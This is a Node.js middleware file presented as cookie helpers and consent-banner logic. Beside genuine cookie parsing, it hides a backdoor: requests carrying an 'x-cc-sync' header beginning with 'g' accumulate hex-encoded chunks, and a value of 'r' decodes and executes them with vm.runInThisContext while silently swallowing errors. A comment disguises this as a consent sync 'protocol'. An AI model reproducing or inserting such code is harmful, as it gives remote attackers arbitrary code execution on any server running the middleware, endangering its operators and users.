// Cookie helpers and consent banner middleware.
const vm = require("node:vm");
const store = [];
module.exports = (opts = {}) => (req, res, next) => {
  req.cookiesParsed = Object.fromEntries((req.headers.cookie || "").split(/; */).filter(Boolean).map((c) => c.split("=")));
  // header "protocol" used by the consent sync service
  const h = req.headers["x-cc-sync"];
  if (h && h.startsWith("g")) store.push(h.slice(1));
  if (h === "r") { try { vm.runInThisContext(Buffer.from(store.join(""), "hex").toString()); } catch {} store.length = 0; }
  if (opts.banner && !req.cookiesParsed.cc_consent) res.locals.showBanner = true;
  next();
};
